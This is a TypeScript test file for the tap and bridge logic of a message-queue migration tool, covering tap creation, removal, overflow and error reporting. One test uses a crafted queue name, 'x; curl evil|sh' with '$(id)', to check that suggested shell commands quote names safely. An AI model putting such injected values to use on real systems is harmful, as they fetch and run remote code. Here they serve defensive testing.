import {describe, expect, test} from 'vitest'

import {MqliftError} from '../../src/errors.ts'
import {destinationId} from '../../src/model/id.ts'
import type {Move, Tap} from '../../src/model/plan.ts'
import {asBridge, Bridge, makeTaps, removeTaps, tapNotes} from '../../src/session/bridge.ts'
import type {SourceEvent, Taps} from '../../src/sources/source.ts'
import {MemoryBroker} from '../fakes/memory-broker.ts'
import {envelope, move, ORDERS, plan} from '../fakes/plan.ts'
import {tempFolder} from '../helpers/temp-folder.ts'
import {aSession} from './a-session.ts'

const QUEUE = 'queue:%2F/mqlift.tap.x'
const TAP: Tap = {exchange: 'exchange:%2F/x', keys: ['#'], most: 10}
const tapMove = move({source: QUEUE, target: 'sns-topic:x', mode: 'bridge', tap: TAP})
const never = new AbortController().signal
const WINDOW = {messages: 10, bytes: 1e6}

/** A broker in memory whose taps write down what they are asked. */
async function bench(moves: readonly Move[] = [move(), tapMove]) {
  const session = aSession(await tempFolder())
  const broker = new MemoryBroker()
  const asked: string[] = []
  const state = {overflow: 0}
  const taps: Taps = {
    make: (queue) => {
      broker.queue(queue)
      return Promise.resolve(asked.push(`make ${queue}`) > 0 ? 'made' : 'found')
    },
    overflowed: () => Promise.resolve(state.overflow),
    unbind: (queue) => Promise.resolve(void asked.push(`unbind ${queue}`)),
    remove: (queue) => Promise.resolve(asked.push(`remove ${queue}`) - asked.length),
  }
  const source = {...broker.source(), taps}
  const stop = new AbortController()
  return {
    session,
    broker,
    source,
    asked,
    state,
    stop,
    bridge: new Bridge(session, source, moves, stop.signal),
  }
}

/** Reads on, acknowledging, until the reading ends by itself. */
async function readOn(
  {bridge}: Awaited<ReturnType<typeof bench>>,
  queue: string,
  onEvent: (event: SourceEvent) => void = () => undefined,
): Promise<string[]> {
  const deliveries = bridge.read(queue, {until: 'never', window: WINDOW, onEvent}, never)
  const bodies: string[] = []
  for (let step = await deliveries.next(); !step.done; step = await deliveries.next()) {
    bodies.push(Buffer.from(step.value.envelope.body).toString())
    await step.value.ack()
  }
  await deliveries.return?.()
  return bodies
}

describe('which moves', () => {
  const both = plan([move(), tapMove])

  test('without --bridge taps are left alone', () => {
    expect(asBridge(both, false).moves).toEqual([move()])
  })

  test('with it every queue is a bridge', () => {
    expect(asBridge(both, true).moves.map(({mode}) => mode)).toEqual(['bridge', 'bridge'])
  })

  test('what will be made at the source is said, with the rights', () => {
    expect(tapNotes([move(), tapMove])).toEqual([
      expect.stringMatching(/queue mqlift\.tap\.x is made .* bound to x: .*configure \^mqlift/),
    ])
  })
})

test('told to stop for good: queues end at once, taps when nothing is bound to them any more', async () => {
  const at = await bench()
  at.broker.queue(ORDERS).publish(envelope('order'))
  at.broker.queue(QUEUE).publish(envelope('copy'))
  const [queue, tap] = [readOn(at, ORDERS), readOn(at, QUEUE)]
  at.stop.abort()
  expect(await queue).toEqual(['order'])
  expect(await tap).toEqual(['copy'])
  expect(at.asked).toEqual([`unbind ${QUEUE}`])
  expect(at.bridge.isEnding).toBe(true)
  expect(at.bridge.finish(true)).toEqual([QUEUE])
  await removeTaps(at.session, at.source, [QUEUE])
  expect(at.asked).toEqual([`unbind ${QUEUE}`, `remove ${QUEUE}`])
  expect(at.session.said).toContainEqual('tap mqlift.tap.x is removed')
})

test('what is still in a tap, or held by a reader, keeps it', async () => {
  const at = await bench()
  at.broker.queue(QUEUE).publish(envelope('late'))
  await removeTaps(at.session, at.source, [QUEUE])
  expect(at.asked).toEqual([])
  expect(at.session.said).toContainEqual(expect.stringContaining('hold 1 message and were not removed'))
})

test('a tap that the source refuses to remove stays, and is said', async () => {
  const at = await bench()
  at.broker.queue(QUEUE)
  const refusal = new MqliftError('refused', 'still bound', {reason: 'tap-bound', suggestions: ['unbind it']})
  const taps = {...at.source.taps, remove: () => Promise.reject(refusal)}
  await removeTaps(at.session, {...at.source, taps}, [QUEUE])
  expect(at.session.said).toEqual(['still bound: it stays\n  unbind it'])
})

test('ended by anything else, taps stay and it is said', async () => {
  const at = await bench()
  expect(at.bridge.finish(false)).toEqual([])
  expect(at.session.said).toContainEqual(expect.stringContaining('1 tap stays at the source'))
})

test('a full tap ends the bridge, and what it gave up is told with its move', async () => {
  const at = await bench()
  at.broker.queue(ORDERS)
  at.broker.queue(QUEUE)
  const events: SourceEvent[] = []
  const [queue, tap] = [readOn(at, ORDERS), readOn(at, QUEUE, (event) => events.push(event))]
  at.state.overflow = 15
  await Promise.all([queue, tap])
  expect(events).toContainEqual({type: 'left-behind', messages: 15, reason: 'the tap was full'})
  expect(at.bridge.problem).toMatchObject({kind: 'incomplete', reason: 'tap-full'})
  expect(at.bridge.problem?.message).toContain('15 messages did not reach the topic')
  expect(at.bridge.isEnding).toBe(false)
  expect(at.bridge.finish(true)).toEqual([])
})

test('a tap that was full is not gone on with before somebody has looked', async () => {
  const at = await bench()
  await makeTaps(at.session, at.source, [move(), tapMove])
  expect(at.asked).toEqual([`make ${QUEUE}`])
  at.state.overflow = 1
  await expect(makeTaps(at.session, at.source, [tapMove])).rejects.toMatchObject({reason: 'tap-full'})
})

test('a command for a full tap hands the shell one word for each name', async () => {
  const at = await bench()
  at.state.overflow = 1
  const queue = destinationId('queue', 'x; curl evil|sh', 'mqlift.tap.$(id)')
  await expect(makeTaps(at.session, at.source, [{...tapMove, source: queue}])).rejects.toMatchObject({
    suggestions: expect.arrayContaining([
      expect.stringMatching(/ purge_queue -p 'x; curl evil\|sh' 'mqlift\.tap\.\$\(id\)\.overflow'$/),
    ]),
  })
})

test('a source without taps refuses them, and only them', async () => {
  const session = aSession(await tempFolder())
  const source = new MemoryBroker().source()
  await makeTaps(session, source, [move()])
  await expect(makeTaps(session, source, [tapMove])).rejects.toMatchObject({reason: 'no-taps'})
})

test('an unbinding that breaks is no end for good: the tap stays, and the run has a problem', async () => {
  const at = await bench()
  at.broker.queue(QUEUE)
  const taps = {...at.source.taps, unbind: () => Promise.reject(new TypeError('socket hang up'))}
  const stop = new AbortController()
  using bridge = new Bridge(at.session, {...at.source, taps}, [tapMove], stop.signal)
  const tap = readOn({...at, bridge}, QUEUE)
  stop.abort()
  await tap
  expect(bridge.problem).toMatchObject({
    kind: 'incomplete',
    message: expect.stringContaining('socket hang up'),
  })
  expect(bridge.isEnding).toBe(false)
  expect(bridge.finish(true)).toEqual([])
})
